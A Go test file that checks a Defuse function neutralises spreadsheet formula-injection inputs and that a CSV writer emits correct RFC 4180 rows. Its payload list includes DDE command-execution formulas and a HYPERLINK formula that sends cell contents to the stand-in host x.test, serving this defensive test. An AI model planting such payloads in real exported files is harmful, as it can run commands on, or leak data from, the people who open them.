package sheet

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
)

// Payloads are texts that some spreadsheet or other would execute.
var payloads = []string{
	`=1+1`, `=cmd|' /C calc'!A0`, `+1+1`, `-1+1`, `@SUM(1+1)*cmd|' /C calc'!A0`, "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\u3000=1",
	"\ufeff=1+1", "\u200b=1+1", "\u202e=1", `"=1+1"`, `""=1`, `'=1+1`, `“=1`, "＝1+1", "＋1", "－1", "＠SUM(1)", "−1", "\x00=1", "\x1b=1", "\x7f=1",
	"\xff=1", "hello\n=1+1", "hello\r\n=1+1", "hello\r+1", "hello;=1+1", "hello\t=1+1", "x;\"=1", "x; =1", `=HYPERLINK("http://x.test?a="&A1,"x")`,
	`=IMPORTXML("http://x.test","//a")`, `-2+3+cmd|' /C calc'!E1`, `+8613800000000`, "@x", "=", "-", "+", "@", `";=1`, "a\n \"=1",
}

func TestDefuse(t *testing.T) {
	for _, p := range payloads {
		got := Defuse(p)
		for _, part := range strings.FieldsFunc(got, func(r rune) bool { return strings.ContainsRune("\r\n\t;", r) }) {
			part = strings.TrimLeft(part, " \u00a0\u3000\"“\ufeff\u200b\u202e\x1b\x7f\ufffd")
			require.False(t, strings.ContainsAny(part[:min(len(part), 1)], "=+-@") || strings.HasPrefix(part, "＝") || strings.HasPrefix(part, "＋") ||
				strings.HasPrefix(part, "－") || strings.HasPrefix(part, "＠") || strings.HasPrefix(part, "−"), "%q became %q", p, got)
		}
		require.True(t, strings.Contains(got, "'"), "%q", p)
		require.Equal(t, strings.ToValidUTF8(strings.ReplaceAll(p, "\x00", "\ufffd"), "\ufffd"), strings.Replace(got, "'", "", strings.Count(got, "'")-strings.Count(p, "'")),
			"nothing else of it has changed")
	}
	for _, plain := range []string{"", "hello", "a=b", "1-2", "x@y.test", "你好", "{\"a\":-1}", "a\nb", "3 + 4", "it's", "\"quoted\""} {
		require.Equal(t, plain, Defuse(plain))
	}
}

func TestLongCells(t *testing.T) {
	for _, s := range []string{strings.Repeat("a", 40_000), strings.Repeat("=\n", 20_000), strings.Repeat("😀", 20_000), strings.Repeat("中", 32_766)} {
		units := 0
		for _, r := range Defuse(s) {
			units++
			if r > 0xffff {
				units++
			}
		}
		require.LessOrEqual(t, units, maxCell)
	}
	require.Equal(t, strings.Repeat("a", 32_765), Defuse(strings.Repeat("a", 32_765)))
}

// A reader of RFC 4180 gets every cell back.
func TestRows(t *testing.T) {
	var b bytes.Buffer
	w := NewWriter(&b)
	half := 0.5
	w.Row("name", "n")
	w.Row("a \"b\", c\r\nd", -5, int64(-6), uint64(7), -0.25, &half, (*float64)(nil), nil, time.Date(2026, 1, 2, 3, 4, 5, 6e6, time.UTC), []byte("=x"), "")
	require.NoError(t, w.Flush())
	require.Equal(t, "\ufeff\"name\",\"n\"\r\n\"a \"\"b\"\", c\r\nd\",-5,-6,7,-0.25,0.5,,,2026-01-02T03:04:05.006Z,\"'=x\",\r\n", b.String())
	r := csv.NewReader(strings.NewReader(strings.TrimPrefix(b.String(), "\ufeff")))
	r.FieldsPerRecord = -1
	rows, err := r.ReadAll()
	require.NoError(t, err)
	require.Equal(t, []string{"a \"b\", c\nd", "-5", "-6", "7", "-0.25", "0.5", "", "", "2026-01-02T03:04:05.006Z", "'=x", ""}, rows[1])
}
